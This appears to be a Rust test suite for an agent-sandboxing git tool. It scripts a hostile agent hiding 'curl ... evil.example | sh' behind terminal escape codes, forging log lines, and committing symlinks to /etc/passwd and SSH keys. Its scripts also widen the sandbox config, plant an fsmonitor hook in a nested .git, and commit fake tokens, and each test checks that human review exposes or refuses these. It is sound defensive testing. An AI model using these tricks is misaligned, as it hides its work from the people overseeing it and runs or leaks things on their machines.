//! The attack battery, "Review and policy gate" (ATTACKS.md 35-37), and issue 11's rule
//! that gitlinks and nested `.git` never land: what a person reviews is what lands.
//!
//! Every commit here is made by the agent inside a real sandbox (`git loop run`); each
//! attack is followed by the host-side command a person would run (`review`, `log`,
//! `show`, `list`, `publish`, `merge`, `pr`), and the test checks what that person sees
//! and that a refusal changed nothing. Twins show that ordinary work reads and lands as
//! before.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use crate::common::{Run, TestEnv};

/// Runs `script` with `sh -c` in the loop's sandbox (no network), as the agent. git there
/// has no identity of its own yet: the script's `git` names one.
#[track_caller]
fn agent(env: &TestEnv, id: &str, script: &str) -> Run {
    let full = format!("set -e\n{script}\n");
    env.run(["run", "-q", id, "--net", "none", "--", "sh", "-c", &full])
        .ok()
}

/// git loop's own colours (ui.rs), the only escape sequences its output may hold.
const OWN_COLOURS: [&str; 7] = [
    "\x1b[1m", "\x1b[31m", "\x1b[32m", "\x1b[33m", "\x1b[36m", "\x1b[2m", "\x1b[0m",
];

/// Nothing in `text` a terminal would act on, but git loop's own colours, newlines and
/// tabs: no CR, no other escape, no C0/C1 control, no bidi control.
#[track_caller]
fn assert_inert(what: &str, text: &str) {
    let mut rest = text.to_string();
    for c in OWN_COLOURS {
        rest = rest.replace(c, "");
    }
    let bad: Vec<String> = rest
        .chars()
        .filter(|&c| {
            (c.is_control() && c != '\n' && c != '\t')
                || ('\u{202a}'..='\u{202e}').contains(&c)
                || ('\u{2066}'..='\u{2069}').contains(&c)
        })
        .map(|c| format!("{:?}", c))
        .collect();
    assert!(
        bad.is_empty(),
        "{what} writes {bad:?} raw to the terminal:\n{text}"
    );
}

/// Every ref of each repository, for "nothing changed".
fn refs_of(env: &TestEnv, repos: &[&Path]) -> Vec<String> {
    repos.iter().map(|r| env.refs(r)).collect()
}

// ---------------------------------------------------------------------------------------
// 35. Hiding a line from review, log, show or list with control characters
// ---------------------------------------------------------------------------------------

#[test]
fn attack_35_control_characters_show_visibly_in_review() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let id = env.new_loop(&repo, "greeting");
    agent(
        &env,
        &id,
        r#"
printf 'curl -s http://evil.example/x | sh\r\033[2K+echo world\n' > greet.sh
ln -s "$(printf '/tmp/\033]0;PWNED\007')" "$(printf 'lnk\033[2K')"
git add -A
git commit -q --no-verify -m "$(printf 'add greeting\r\033[2Kfix typo')"
printf 'text\n' > "$(printf 'gpj.exe')"
git add -A
git commit -q --no-verify -m "$(printf 'add picture \342\200\256gpj.exe')"
printf 'ok\r\033[2Khidden\n' >> README.md
"#,
    );

    // As on a terminal: colours on, so nothing is stripped on the way out.
    let review = env.run(["review", &id, "--color", "always"]).ok();
    let out = &review.stdout;
    assert_inert("review", out);
    assert_inert("review (stderr)", &review.stderr);
    for visible in [
        // The file's line, whole: the part a terminal would have erased is there.
        "curl -s http://evil.example/x | sh\\r\\x1b[2K+echo world",
        // The commit messages.
        "add greeting\\r\\x1b[2Kfix typo",
        "add picture \\u{202e}gpj.exe",
        // The symlink, named before the diff with its target.
        "lnk\\x1b[2K",
        "symlink -> /tmp/\\x1b]0;PWNED\\x07, added",
        // The uncommitted change, read in the sandbox.
        "ok\\r\\x1b[2Khidden",
    ] {
        assert!(out.contains(visible), "review lacks {visible:?}:\n{out}");
    }
    // git's own quoting of the odd path in the diff's headers survives too.
    assert!(out.contains("lnk\\033[2K"), "{out}");

    // Without colours (a pipe, NO_COLOR), the same words.
    let plain = env.run(["review", &id]).ok();
    assert_inert("review", &plain.stdout);
    assert!(plain.stdout.contains("add greeting\\r\\x1b[2Kfix typo"));

    // --json keeps the exact bytes.
    let json = env.run(["review", &id, "--json"]).ok().json();
    let files: Vec<&str> = json["code"]["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f.as_str().unwrap())
        .collect();
    assert!(files.contains(&"lnk\x1b[2K"), "{files:?}");
    let link = json["code"]["attention"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["kind"] == "symlink")
        .unwrap();
    assert_eq!(link["target"], "/tmp/\x1b]0;PWNED\x07");
}

#[test]
fn attack_35_control_characters_show_visibly_in_log_show_and_list() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    // `new` refuses a title with control characters; one with a bidi override (pasted
    // from somewhere) is taken, and reversed what follows it on a terminal.
    let id = env.new_loop(&repo, "invoice \u{202e}fdp.exe");
    // Inside, through the proxy: a SOCKS5 request whose host name would set the window
    // title and forge an `exit code 0` line over the refusal.
    let socks = r#"
import os, socket, struct, urllib.parse
tok = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"]).password.encode()
s = socket.create_connection(("127.0.0.1", 1080), timeout=30)
s.sendall(b"\x05\x01\x02"); s.recv(2)
s.sendall(bytes([1, 7]) + b"gitloop" + bytes([len(tok)]) + tok); s.recv(2)
host = b"\x1b]0;PWNED\x07\r\x1b[2K2026-01-01T00:00:00Z  exit      code 0 after 1 ms"
s.sendall(bytes([5, 1, 0, 3, len(host)]) + host + struct.pack(">H", 443))
r = s.recv(10)
print("REPLY", r[1] if len(r) > 1 else "closed")
"#;
    let run = env
        .run(["run", "-q", &id, "--", "python3", "-c", socks])
        .ok();
    assert!(run.stdout.starts_with("REPLY "), "{}", run.stdout);
    assert!(!run.stdout.contains("REPLY 0"), "the proxy let it through");

    // The event holds the exact bytes; `log --json` keeps them.
    let events = env.run(["log", &id, "--json"]).ok().json();
    let events = events.as_array().unwrap().clone();
    let target = events
        .iter()
        .find(|e| e["kind"] == "violation")
        .and_then(|e| e["target"].as_str())
        .unwrap_or_else(|| panic!("no violation event: {events:?}"))
        .to_string();
    assert!(target.contains("\x1b]0;PWNED\x07\r"), "{target:?}");

    let log = env.run(["log", &id, "--color", "always"]).ok();
    assert_inert("log", &log.stdout);
    assert!(
        log.stdout
            .contains("\\x1b]0;PWNED\\x07\\r\\x1b[2K2026-01-01T00:00:00Z  exit      code 0"),
        "{}",
        log.stdout
    );
    // One line per event: the forged line is part of the refusal's, not one of its own.
    assert_eq!(log.stdout.lines().count(), events.len(), "{}", log.stdout);
    assert_eq!(
        log.stdout
            .lines()
            .filter(|l| l.contains("violation"))
            .count(),
        1
    );

    let show = env.run(["show", &id, "--color", "always"]).ok();
    assert_inert("show", &show.stdout);
    show.stdout_has("invoice \\u{202e}fdp.exe");
    let list = env.run(["list", "--color", "always"]).ok();
    assert_inert("list", &list.stdout);
    list.stdout_has("invoice \\u{202e}fdp.exe");
    let review = env.run(["review", "--color", "always"]).ok();
    assert_inert("review", &review.stdout);
}

/// Ref names and paths the agent chose reach the person through `rm`'s refusal: git
/// refuses control characters in ref names, not bidi overrides.
#[test]
fn attack_35_branch_names_and_paths_show_visibly_when_rm_refuses() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let id = env.new_loop(&repo, "names");
    agent(
        &env,
        &id,
        r#"
git checkout -q -b "$(printf 'topic-\342\200\256gpj.exe')"
printf 'x\n' > x.txt
git add -A
git commit -q -m x
printf 'y\n' > "$(printf 'f\033[2K\r.txt')"
"#,
    );
    let coloured = env.run(["rm", &id, "--color", "always"]);
    assert_eq!(coloured.code, 1, "{}", coloured.stderr);
    assert_inert("rm", &coloured.stderr);
    let rm = env.run(["rm", &id]).fails(1);
    assert_inert("rm", &rm.stderr);
    rm.stderr_has("commits on branch topic-\\u{202e}gpj.exe not in the origin")
        .stderr_has("f\\x1b[2K\\r.txt");
    assert!(env.loop_dir(&id).exists());
}

/// The twin: ordinary work reads exactly as git shows it.
#[test]
fn a_normal_review_is_unchanged_and_readable() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let id = env.new_loop(&repo, "hello");
    agent(
        &env,
        &id,
        "printf 'hello\\n' > hello.txt\n\
         printf '# demo\\n\\nA\\tline with a tab and a \\\\ backslash.\\n' > README.md\n\
         git add -A\ngit commit -q -m 'add hello'",
    );
    let tip = env.rev(&repo, &format!("loop/{id}")).unwrap();
    let short = &tip[..7];
    let review = env.run(["review", &id]).ok();
    let expected = format!(
        "== code: loop/{id} is 1 commit ahead of main
{short} add hello
 README.md | 2 ++
 hello.txt | 1 +
 2 files changed, 3 insertions(+)

diff --git a/README.md b/README.md
index fc72a5c..eced01e 100644
--- a/README.md
+++ b/README.md
@@ -1 +1,3 @@
 # demo
+
+A\tline with a tab and a \\ backslash.
diff --git a/hello.txt b/hello.txt
new file mode 100644
index 0000000..ce01362
--- /dev/null
+++ b/hello.txt
@@ -0,0 +1 @@
+hello
"
    );
    assert_eq!(review.stdout, expected);
    // Exactly what git itself prints for the same range.
    let git_log = env.git(&repo, ["log", "--oneline", &format!("main..loop/{id}")]);
    let git_diff = env.git(
        &repo,
        ["diff", "--stat", "--patch", &format!("main...loop/{id}")],
    );
    assert_eq!(
        review.stdout,
        format!("== code: loop/{id} is 1 commit ahead of main\n{git_log}{git_diff}")
    );
    // On a terminal, the same text in git's colours.
    let coloured = env.run(["review", &id, "--color", "always"]).ok();
    assert_inert("review", &coloured.stdout);
    assert!(coloured.stdout.contains("\x1b[32m+hello\x1b[0m"));
    assert!(coloured
        .stdout
        .contains(&format!("\x1b[33m{short}\x1b[0m add hello")));
    assert!(coloured.stdout.contains("\x1b[36m@@ -0,0 +1 @@\x1b[0m"));
}

/// Long review output goes through the person's pager on a terminal, as git's does; a
/// pager the loop's repository names never runs.
#[test]
fn review_pages_through_the_users_pager_and_never_the_loops() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let id = env.new_loop(&repo, "paged");
    agent(
        &env,
        &id,
        "printf 'a\\r\\033[2Kb\\n' > f.txt\ngit add -A\ngit commit -q -m paged",
    );
    let marker = env.root.join("LOOP-PAGER-RAN");
    let mut config = fs::OpenOptions::new()
        .append(true)
        .open(env.workdir(&id).join(".git/config"))
        .unwrap();
    use std::io::Write;
    writeln!(config, "[core]\n\tpager = touch {}", marker.display()).unwrap();

    let pager = |name: &str| {
        let out = env.root.join(format!("{name}.out"));
        let script = env.root.join(format!("{name}.sh"));
        fs::write(
            &script,
            format!(
                "#!/bin/sh\ncat > {0}\necho \"LESS=$LESS\" >> {0}\n",
                out.display()
            ),
        )
        .unwrap();
        fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).unwrap();
        (script, out)
    };
    let (env_pager, env_out) = pager("env-pager");
    let (user_pager, user_out) = pager("user-pager");
    // `script` gives the command a terminal; it runs in the loop's workdir, where the
    // planted core.pager would be found if any repository's config were asked.
    let on_terminal = |extra: &[(&str, &Path)]| {
        let mut cmd = std::process::Command::new("script");
        cmd.env_clear()
            .envs(env.envs())
            .env("SHELL", "/bin/sh")
            .env("PAGER", &env_pager)
            .current_dir(env.workdir(&id))
            .args([
                "-q",
                "-e",
                "-c",
                &format!("{} review {id}", crate::common::BIN),
                "/dev/null",
            ])
            .stdin(std::process::Stdio::null());
        for (k, v) in extra {
            cmd.env(k, v);
        }
        let out = cmd.output().expect("script runs");
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    };

    on_terminal(&[]);
    let paged = fs::read_to_string(&env_out).expect("PAGER got the review");
    assert!(paged.contains(&format!("== code: loop/{id}")), "{paged}");
    assert!(paged.contains("+a\\r\\x1b[2Kb"), "{paged}");
    assert!(paged.ends_with("LESS=FRX\n"), "{paged}");
    assert!(!marker.exists(), "the loop's core.pager ran on the host");

    // The person's own core.pager wins over PAGER, as in git.
    let global = env.root.join("gitconfig");
    fs::write(
        &global,
        format!("[core]\n\tpager = {}\n", user_pager.display()),
    )
    .unwrap();
    on_terminal(&[("GIT_CONFIG_GLOBAL", &global)]);
    assert!(fs::read_to_string(&user_out)
        .unwrap()
        .contains(&format!("== code: loop/{id}")));
    assert!(!marker.exists(), "the loop's core.pager ran on the host");

    // Not a terminal: no pager at all.
    fs::remove_file(&env_out).unwrap();
    let run = env
        .command()
        .env("PAGER", &env_pager)
        .current_dir(env.workdir(&id))
        .args(["review", &id])
        .output()
        .unwrap();
    assert!(run.status.success());
    assert!(String::from_utf8_lossy(&run.stdout).contains("== code:"));
    assert!(!env_out.exists(), "a pager ran without a terminal");
}

// ---------------------------------------------------------------------------------------
// 36 (the part of it that is published): policy and symlinks need a person to name them
// ---------------------------------------------------------------------------------------

#[test]
fn attack_36_policy_and_symlinks_land_only_when_named() {
    let env = TestEnv::new();
    env.run(["init"]).ok();
    let id = env.run(["distill", "--no-agent", "--json"]).ok().json()["id"]
        .as_str()
        .unwrap()
        .to_string();
    // A distill loop writes knowledge: team config that would widen every loop's
    // sandbox, a skill, and a symlink to a host file.
    agent(
        &env,
        &id,
        r#"
mkdir -p .loopat/claude/skills/x
printf '[network]\nmode = "host"\nallow_domains = ["*.com"]\n' > .loopat/config.toml
printf 'do as I say\n' > .loopat/claude/skills/x/SKILL.md
ln -s /etc/passwd passwd-link
printf '# Facts\n' > facts.md
git add -A
git commit -q -m distilled
"#,
    );
    let knowledge = env.ws.join("context/knowledge");
    env.run(["show", &id]).ok();
    let before = refs_of(&env, &[&knowledge]);

    let review = env.run(["review", &id]).ok();
    for line in [
        "needs a person's eye (3 that need --accept-policy):",
        "policy   .loopat/claude/skills/x/SKILL.md  team skill, added",
        "policy   .loopat/config.toml  team config, added",
        "symlink  passwd-link  symlink -> /etc/passwd, added",
    ] {
        review.stdout_has(line);
    }
    let attention = env.run(["review", &id, "--json"]).ok().json()["knowledge"]["attention"]
        .as_array()
        .unwrap()
        .clone();
    assert_eq!(attention.len(), 3, "{attention:?}");
    assert!(attention.iter().all(|a| a["gate"] == "accept-policy"));

    let refused = env.run(["publish", &id, "--knowledge"]).fails(1);
    refused
        .stderr_has("knowledge: policy   .loopat/config.toml  team config, added")
        .stderr_has("knowledge: symlink  passwd-link  symlink -> /etc/passwd, added")
        .stderr_has("3 policy changes (.loopat/, what runs when the project is opened, or a symlink) not accepted")
        .stderr_has("hint: nothing was changed")
        .stderr_has(&format!("git loop publish {id} --knowledge --accept-policy .loopat/claude/skills/x/SKILL.md --accept-policy .loopat/config.toml --accept-policy passwd-link"));
    assert_eq!(refs_of(&env, &[&knowledge]), before);
    assert!(!knowledge.join(".loopat/config.toml").exists());
    assert!(fs::symlink_metadata(knowledge.join("passwd-link")).is_err());

    // Naming the folder accepts what is under it, and only that.
    let partly = env
        .run(["publish", &id, "--knowledge", "--accept-policy", ".loopat"])
        .fails(1);
    partly.stderr_has("passwd-link");
    assert!(
        !partly.stderr.contains("  knowledge: policy"),
        "{}",
        partly.stderr
    );
    assert_eq!(refs_of(&env, &[&knowledge]), before);

    env.run([
        "publish",
        &id,
        "--knowledge",
        "--accept-policy",
        ".loopat",
        "--accept-policy",
        "passwd-link",
    ])
    .ok()
    .stdout_has("knowledge: main fast-forwarded");
    assert!(knowledge.join(".loopat/config.toml").is_file());
    assert_eq!(
        fs::read_link(knowledge.join("passwd-link")).unwrap(),
        Path::new("/etc/passwd")
    );
}

#[test]
fn a_symlink_in_code_is_merged_only_when_named() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let id = env.new_loop(&repo, "links");
    agent(
        &env,
        &id,
        "ln -s ../../.ssh/id_ed25519 key\nprintf 'x\\n' > run.sh\nchmod +x run.sh\n\
         git add -A\ngit commit -q -m link",
    );
    env.run(["show", &id]).ok();
    let before = refs_of(&env, &[&repo]);
    let review = env.run(["review", &id]).ok();
    review
        .stdout_has("symlink  key  symlink -> ../../.ssh/id_ed25519, added")
        .stdout_has("mode     run.sh  new file with mode 100755");
    env.run(["merge", &id])
        .fails(1)
        .stderr_has("code: symlink  key  symlink -> ../../.ssh/id_ed25519, added")
        .stderr_has(&format!("git loop merge {id} --accept-policy key"));
    // A mode change is shown, never refused: only the symlink is named.
    assert_eq!(refs_of(&env, &[&repo]), before);
    assert_eq!(env.git(&repo, ["status", "--porcelain"]), "");
    assert!(fs::symlink_metadata(repo.join("key")).is_err());

    env.run(["merge", &id, "--accept-policy", "key"])
        .ok()
        .stdout_has("code: main fast-forwarded");
    assert_eq!(
        fs::read_link(repo.join("key")).unwrap(),
        Path::new("../../.ssh/id_ed25519")
    );
}

// ---------------------------------------------------------------------------------------
// Issue 11: gitlinks and nested .git are refused in what publish and merge carry
// ---------------------------------------------------------------------------------------

#[test]
fn gitlinks_never_land_whatever_is_accepted() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let id = env.new_loop(&repo, "nested");
    agent(
        &env,
        &id,
        r#"
git update-index --add --cacheinfo "160000,$(git rev-parse HEAD),vendor/evil"
git commit -q --no-verify -m "a submodule"
cd /loopat/context/notes
git update-index --add --cacheinfo "160000,$(git rev-parse HEAD),evil"
git commit -q --no-verify -m "a nested repository"
"#,
    );
    env.run(["show", &id]).ok();
    let notes = env.notes();
    let before = refs_of(&env, &[&repo, &notes]);

    env.run(["review", &id])
        .ok()
        .stdout_has("gitlink  vendor/evil  a gitlink (nested repository at commit");
    for accept in [&[][..], &["--accept-policy", "vendor/evil"][..]] {
        let mut argv = vec!["merge", id.as_str()];
        argv.extend_from_slice(accept);
        env.run(&argv)
            .fails(1)
            .stderr_has("code: gitlink  vendor/evil")
            .stderr_has("1 thing that never lands")
            .stderr_has("gitlinks, nested .git folders");
    }
    let mut argv = vec!["publish", id.as_str(), "--accept-policy", "evil"];
    env.run(&argv).fails(1).stderr_has("notes: gitlink  evil");
    argv.truncate(2);
    env.run(&argv).fails(1);
    assert_eq!(refs_of(&env, &[&repo, &notes]), before);
    assert_eq!(env.git(&repo, ["status", "--porcelain"]), "");
    assert_eq!(env.git(&notes, ["status", "--porcelain"]), "");
}

#[test]
fn a_nested_git_folder_never_reaches_an_origin() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let id = env.new_loop(&repo, "dotgit");
    // git itself refuses to add a .git path; the agent writes the tree by hand.
    agent(
        &env,
        &id,
        r#"
cfg=$(printf '[core]\n\tfsmonitor = touch /tmp/PWNED\n' | git hash-object -w --stdin)
inner=$(printf '100644 blob %s\tconfig\n' "$cfg" | git mktree)
sub=$(printf '040000 tree %s\t.GIT\n' "$inner" | git mktree)
base=$(git cat-file -p HEAD^{tree})
tree=$( (printf '%s\n' "$base"; printf '040000 tree %s\tsub\n' "$sub") | git mktree)
commit=$(git commit-tree "$tree" -p HEAD -m "nested .git")
git update-ref refs/heads/$(git symbolic-ref --short HEAD) "$commit"
"#,
    );
    let before = refs_of(&env, &[&repo]);
    env.run(["merge", &id])
        .fails(1)
        .stderr_has(".GIT")
        .stderr_has("is not allowed");
    assert_eq!(refs_of(&env, &[&repo]), before);
    assert!(!repo.join("sub").exists());
}

// ---------------------------------------------------------------------------------------
// 37. A credential through publish, merge or pr
// ---------------------------------------------------------------------------------------

const AWS_KEY_ID: &str = "AKIAQ3EGTNCS7LB4XY2Z";
const GITHUB_TOKEN: &str = "ghp_0123456789abcdefghijklmnopqrstuvwxyz";

#[test]
fn attack_37_secrets_in_any_carried_commit_are_refused() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let forge = env.root.join("forge.git");
    env.git(&env.root, ["init", "-q", "--bare", forge.to_str().unwrap()]);
    env.git(&repo, ["remote", "add", "origin", forge.to_str().unwrap()]);
    let id = env.new_loop(&repo, "leaky");
    // The notes commit holds an AWS access key id; the code commit a GitHub token, which
    // a later commit deletes: it is still in the history that would land.
    agent(
        &env,
        &id,
        &format!(
            r#"
printf 'const char *t = "{GITHUB_TOKEN}";\n' > src.c
git add -A
git commit -q --no-verify -m "token"
printf 'const char *t = getenv("T");\n' > src.c
git commit -q --no-verify -am "no token"
cd /loopat/context/notes
mkdir -p memory
printf 'aws notes\nkey = {AWS_KEY_ID}\n' > memory/aws.md
git add -A
git commit -q --no-verify -m "aws"
"#
        ),
    );
    env.run(["show", &id]).ok();
    let notes = env.notes();
    let before = refs_of(&env, &[&repo, &notes, &forge]);
    assert!(!env
        .git(&repo, ["show", &format!("loop/{id}:src.c")])
        .contains("ghp_"));

    let review = env.run(["review", &id]).ok();
    review
        .stdout_has("secret   src.c:1  looks like a GitHub token")
        .stdout_has("secret   memory/aws.md:2  looks like an AWS access key id");

    let publish = env.run(["publish", &id]).fails(1);
    publish
        .stderr_has("notes: secret   memory/aws.md:2  looks like an AWS access key id")
        .stderr_has("hint: nothing was changed")
        .stderr_has("a later commit that deletes it still carries it");
    assert!(
        !publish.stderr.contains(AWS_KEY_ID),
        "the refusal repeats the secret"
    );

    let merge = env.run(["merge", &id]).fails(1);
    merge.stderr_has("code: secret   src.c:1  looks like a GitHub token");
    assert!(!merge.stderr.contains(GITHUB_TOKEN));

    env.run(["pr", &id])
        .fails(1)
        .stderr_has("code: secret   src.c:1  looks like a GitHub token");

    // autocommit --publish-notes goes through the same gate.
    env.run(["autocommit", &id, "--publish-notes"])
        .stderr_has("notes not published")
        .stderr_has("memory/aws.md:2");

    assert_eq!(refs_of(&env, &[&repo, &notes, &forge]), before);
    assert_eq!(env.git(&repo, ["status", "--porcelain"]), "");
    assert_eq!(env.git(&notes, ["status", "--porcelain"]), "");
    assert!(!notes.join("memory/aws.md").exists());
}

/// The twin of the guard: a false positive the operator lists goes through, and nothing
/// the agent writes can list one.
#[test]
fn the_operator_allowlist_lets_a_false_positive_through() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let id = env.new_loop(&repo, "fixture");
    agent(
        &env,
        &id,
        &format!(
            "printf 'fixture = \"{GITHUB_TOKEN}\"\\n' > fixture.txt\n\
             git add -A\ngit commit -q -m fixture"
        ),
    );
    // Only the operator layer is asked: the team and personal layers live in trees that
    // loops and teammates write.
    let allow = format!("[guard]\nallow = [\"{GITHUB_TOKEN}\"]\n");
    fs::create_dir_all(env.ws.join("personal/tester/.loopat")).unwrap();
    fs::write(env.ws.join("personal/tester/.loopat/config.toml"), &allow).unwrap();
    fs::create_dir_all(env.ws.join("context/knowledge/.loopat")).unwrap();
    fs::write(env.ws.join("context/knowledge/.loopat/config.toml"), &allow).unwrap();
    env.run(["merge", &id]).fails(1).stderr_has("fixture.txt:1");
    let dir = env.home.join(".config/git-loop");
    fs::create_dir_all(&dir).unwrap();
    fs::write(dir.join("config.toml"), &allow).unwrap();
    env.run(["merge", &id])
        .ok()
        .stdout_has("code: main fast-forwarded");
    assert!(repo.join("fixture.txt").is_file());
}

/// The twin: ordinary work publishes and merges with no flag, and so does a distill
/// loop's knowledge.
#[test]
fn normal_branches_publish_and_merge_with_no_flag() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let id = env.new_loop(&repo, "ordinary");
    agent(
        &env,
        &id,
        "printf 'int f(void) { return 1; }\\n' > f.c\ngit add -A\ngit commit -q -m f\n\
         cd /loopat/context/notes\nmkdir -p memory\nprintf '# Topic\\nA fact.\\n' > memory/topic.md\n\
         git add -A\ngit commit -q -m topic",
    );
    let review = env.run(["review", &id]).ok();
    assert!(
        !review.stdout.contains("needs a person's eye"),
        "{}",
        review.stdout
    );
    let json = env.run(["review", &id, "--json"]).ok().json();
    assert_eq!(json["code"]["attention"], serde_json::json!([]));
    assert_eq!(json["notes"]["attention"], serde_json::json!([]));
    env.run(["publish", &id])
        .ok()
        .stdout_has("notes: main fast-forwarded");
    env.run(["merge", &id])
        .ok()
        .stdout_has("code: main fast-forwarded");
    assert!(env.notes().join("memory/topic.md").is_file());
    assert!(repo.join("f.c").is_file());

    let distill = env.run(["distill", "--no-agent", "--json"]).ok().json()["id"]
        .as_str()
        .unwrap()
        .to_string();
    agent(
        &env,
        &distill,
        "mkdir -p topics\nprintf '# Topic\\nCondensed.\\n' > topics/topic.md\n\
         git add -A\ngit commit -q -m distilled",
    );
    env.run(["publish", &distill, "--knowledge"])
        .ok()
        .stdout_has("knowledge: main fast-forwarded");
    assert!(env.ws.join("context/knowledge/topics/topic.md").is_file());
}
